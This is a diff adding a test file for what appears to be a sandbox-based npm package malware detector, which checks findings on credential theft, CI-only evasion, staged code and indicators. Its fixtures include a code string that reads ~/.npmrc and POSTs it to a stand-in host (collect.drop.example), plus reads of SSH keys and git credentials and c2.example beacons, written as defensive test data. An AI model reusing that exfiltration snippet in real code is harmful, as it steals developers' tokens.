@@ -1,0 +1,95 @@
+import { describe, expect, it } from 'vitest'
+import { weigh } from '../core/weigh.ts'
+import type { Finding } from '../core/types.ts'
+import { judge } from './judge.ts'
+import { indicatorsOf } from './indicators.ts'
+import { stagesOf } from './stages.ts'
+import { recordOf, sampleAbout } from './testing.ts'
+import type { Sample } from './testing.ts'
+
+const found = (sample: Sample): Finding[] => judge(recordOf(sample), sampleAbout(sample)).flatMap((run) => (run.status === 'ok' ? run.findings : []))
+const THEFT: Sample = {
+  says: 'a token goes out', acts: [
+    { kind: 'read', target: '/home/mkeller/.npmrc', by: 'setup.js:3' },
+    { kind: 'request', target: 'https://collect.drop.example/n', method: 'POST', by: 'setup.js:9', honey: [{ token: 'npm-token', encodings: ['gzip', 'base64'], where: 'body' }] },
+  ],
+}
+
+describe('judging a record', () => {
+  it('makes malicious what is seen leaving, with the chain from the hook to the sink', () => {
+    const runs = judge(recordOf(THEFT), sampleAbout(THEFT))
+    expect(runs.every(({ status }) => status === 'ok')).toBe(true)
+    expect(weigh('sha256:00', runs, [], 'test').level).toBe('malicious')
+    const [theft] = found(THEFT).filter(({ detector }) => detector === 'did-send-secrets')
+    expect(theft?.title).toBe('the postinstall script sent planted npm-token to collect.drop.example')
+    expect(theft?.evidence.map(({ role, file, lines }) => `${role} ${file}:${lines[0]}`)).toEqual(['trigger package.json:5', 'source setup.js:3', 'sink setup.js:9'])
+    expect(theft?.evidence.at(-1)?.excerpt).toBe('POST hxxps://collect[.]drop[.]example/n [planted npm-token, gzip in base64]')
+  })
+
+  it('shows what was hidden in an encoding, and where it lay', () => {
+    const sample = Buffer.from('{"d":"' + Buffer.from('//registry.example/:_authToken=npm_planted').toString('base64') + '"}').toString()
+    const [theft] = found({ says: 'encoded', acts: [{ kind: 'request', target: 'https://c.example/', method: 'POST', sample, honey: [{ token: 'npm-token', encodings: ['base64'], where: 'body' }] }] }).filter(({ detector }) => detector === 'did-send-secrets')
+    expect(theft?.evidence.at(-1)).toMatchObject({ excerpt: '//registry.example/:_authToken=npm_planted', decodedFrom: { says: 'undone: base64' } })
+  })
+
+  it('is silent about an ordinary installation', () => {
+    expect(found({ says: 'npm at work', acts: [
+      { kind: 'read', target: '/home/mkeller/.npmrc', pid: 1, by: null }, { kind: 'request', target: 'https://registry.example/left-pad', method: 'GET', pid: 1, by: null, honey: [{ token: 'npm-token', encodings: [], where: 'header' }] },
+      { kind: 'write', target: '/home/mkeller/app/node_modules/left-pad/index.js', pid: 1, by: null }, { kind: 'write', target: '/home/mkeller/.npm/_cacache/tmp/x', pid: 1, by: null }, { kind: 'refused', target: 'io_uring_setup', pid: 1, by: null, done: false },
+    ] })).toEqual([])
+  })
+
+  it('does not take a program for a tool because it is called like one', () => {
+    const sample = (program: string): Sample => ({ says: 'git, or not', processes: [{ pid: 4, parent: 3, argv: ['git', 'status'], program }], acts: [{ kind: 'read', target: '/home/mkeller/.git-credentials', pid: 4, by: null }] })
+    expect(found(sample('/usr/bin/git'))).toEqual([])
+    expect(found(sample('/home/mkeller/app/node_modules/sample/git')).map(({ detector }) => detector)).toEqual(['did-read-credentials'])
+  })
+
+  it('says what was done in one pass only, graver where it is grave', () => {
+    const only: Sample = { ...THEFT, passes: ['laptop', 'ci'], acts: THEFT.acts.map((act) => ({ ...act, pass: 'ci' as const })) }
+    const [difference] = found(only).filter(({ detector }) => detector === 'did-act-only-sometimes')
+    expect(difference).toMatchObject({ severity: 'high', behaviour: 'evasion', title: 'only in continuous integration: the postinstall script sent planted npm-token to collect.drop.example' })
+    expect(found({ ...THEFT, passes: ['laptop', 'ci'] }).filter(({ detector }) => detector === 'did-act-only-sometimes')).toEqual([])
+  })
+
+  it('names the package of a dependency that did it', () => {
+    const [read] = found({ says: 'a dependency', acts: [{ kind: 'read', target: '/home/mkeller/.ssh/id_rsa', by: 'left-pad/index.js:7' }] })
+    expect(read?.evidence.at(-1)).toMatchObject({ file: 'left-pad/index.js', lines: [7, 7], says: 'read credentials of the user (code of left-pad)' })
+  })
+})
+
+describe('code that comes to light', () => {
+  const code = 'const fs = require("fs"), os = require("os")\nconst text = fs.readFileSync(os.homedir() + "/.npmrc", "utf8")\nfetch("https://collect.drop.example/n", { method: "POST", body: text })\n'
+  const sample: Sample = { says: 'written and run', acts: [{ kind: 'write', target: '/tmp/stage.js', by: 'setup.js:4' }, { kind: 'exec', target: '/usr/bin/node', argv: ['node', '/tmp/stage.js'], by: 'setup.js:5' }], disk: [{ path: '/tmp/stage.js', content: new TextEncoder().encode(code) }] }
+
+  it('is read by the static engine, and says where it came from', () => {
+    expect(stagesOf(recordOf(sample), sampleAbout(sample)).map(({ path, ran }) => ({ path, ran }))).toEqual([{ path: 'stage-1/tmp/stage.js', ran: true }])
+    const [theft] = found(sample).filter(({ detector }) => detector === 'steals-credentials')
+    expect(theft).toMatchObject({ severity: 'critical', title: expect.stringContaining('code that came to light') })
+    expect(theft?.evidence[0]).toMatchObject({ file: 'stage-1/tmp/stage.js', decodedFrom: { file: 'setup.js', lines: [4, 4], says: 'wrote /tmp/stage.js' } })
+  })
+
+  it('is looked for in command lines as well, once', () => {
+    const inline = { kind: 'exec', target: '/usr/bin/node', argv: ['node', '-e', code], by: 'setup.js:5' } as const
+    expect(stagesOf(recordOf({ says: 'inline', acts: [inline, inline] }), sampleAbout(sample))).toHaveLength(1)
+  })
+
+  it('is bounded', () => {
+    const many = Array.from({ length: 500 }, (_none, index) => ({ kind: 'exec', target: '/usr/bin/node', argv: ['node', '-e', `console.log(${index}, "${'x'.repeat(1000)}")`] }) as const)
+    expect(stagesOf(recordOf({ says: 'many', acts: many }), sampleAbout(sample))).toHaveLength(40)
+  })
+})
+
+describe('indicators', () => {
+  it('are what the package named, never what the box answered or tools ask', () => {
+    const sample: Sample = {
+      says: 'hosts', acts: [
+        { kind: 'resolve', target: 'c2.example' }, { kind: 'connect', target: '198.18.3.4:443', name: 'c2.example' }, { kind: 'connect', target: '198.18.3.9:443' }, { kind: 'request', target: 'https://c2.example/gate.php', method: 'POST', by: 'setup.js:9' },
+        { kind: 'connect', target: '203.0.113.9:4444' }, { kind: 'connect', target: '192.168.1.4:22' }, { kind: 'request', target: 'https://registry.example/x' }, { kind: 'request', target: 'https://nodejs.org/dist/v24.0.0/node.tar.gz', method: 'GET' },
+        { kind: 'write', target: '/home/mkeller/.x/run' },
+      ], disk: [{ path: '/home/mkeller/.x/run', sha256: 'ab'.repeat(32), mode: 0o755 }],
+    }
+    expect(indicatorsOf(recordOf(sample), sampleAbout(sample)).map(({ type, value }) => `${type} ${value}`).sort()).toEqual([
+      'domain c2.example', `hash ${'ab'.repeat(32)}`, 'ipv4 203.0.113.9', 'url https://c2.example/gate.php'])
+  })
+})
